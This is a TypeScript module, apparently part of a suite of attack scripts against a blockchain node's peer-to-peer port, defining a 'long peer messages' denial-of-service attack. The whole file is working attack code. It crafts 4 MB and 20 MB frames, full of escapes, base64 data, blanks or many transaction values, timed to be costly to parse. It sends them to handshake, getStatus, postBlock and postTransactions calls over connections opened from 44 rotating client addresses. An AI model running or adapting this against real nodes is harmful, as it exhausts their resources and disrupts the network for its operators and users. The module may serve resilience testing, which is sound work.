/** Long messages of unknown peers: each costs as much as possible to read. */
import { clientAddresses } from "../addresses.ts";
import type { Attack } from "../attack-definition.ts";
import { frame, HELLO, UPGRADE } from "../peer-frames.ts";
import { createConnections, repeat } from "../requests.ts";

/** Just below the longest message of an address that is not a peer, and the longest one of a block. */
const LENGTHS = [4_150_000, 20_700_000];

const callOf = (event: string, member: string): string =>
  `{"event":"${event}","data":{"data":${member},"headers":{}},"cid":2}`;

type Fill = (characters: string) => string;

const bytesOf = (base64: string): string => `{"block":{"base64":true,"data":"${base64}"}}`;

/** In `\nA\nA...`, escapes alternate with text. */
const MESSAGES: readonly ((filled: Fill) => Buffer[])[] = [
  (filled) => [
    Buffer.from(UPGRADE),
    frame(`{"event":"#handshake","data":{"x":"${filled("\\nA")}"},"cid":1}`),
  ],
  (filled) => [HELLO, frame(callOf("p2p.peer.getStatus", `{"x":"${filled("\\nA")}"}`))],
  (filled) => [HELLO, frame(callOf("p2p.peer.postBlock", bytesOf(filled("\\nA"))))],
  (filled) => [HELLO, frame(callOf("p2p.peer.postBlock", bytesOf(filled("AAAA"))))],
  (filled) => [HELLO, frame(callOf("p2p.peer.postBlock", `{${filled(" ")}}`))],
  (filled) => [HELLO, frame(callOf("p2p.peer.postTransactions", `{"transactions":[${filled('"\\n",')}0]}`))],
];

export const longMessages: Attack = {
  name: "long peer messages",
  description:
    "messages of 4 and 20 MB before and after the handshake: strings of escapes, bytes, blanks, many values",
  async run({ host, peerPort }, tally, signal) {
    const addresses = clientAddresses(44);
    const connections = createConnections(tally);
    const buffers = LENGTHS.flatMap((length) =>
      MESSAGES.map((partsOf) => Buffer.concat(partsOf((text) => text.repeat(length / text.length)))),
    );
    let opened = 0;
    await repeat({ atOnce: 1, pauseMs: 100 }, signal, async () => {
      for (let index = connections.count(); index < 4; index++) {
        const bytes = buffers[opened++ % buffers.length];
        if (bytes) connections.open(host, peerPort, addresses.next(), bytes).resume();
      }
    });
    connections.closeAll();
  },
};
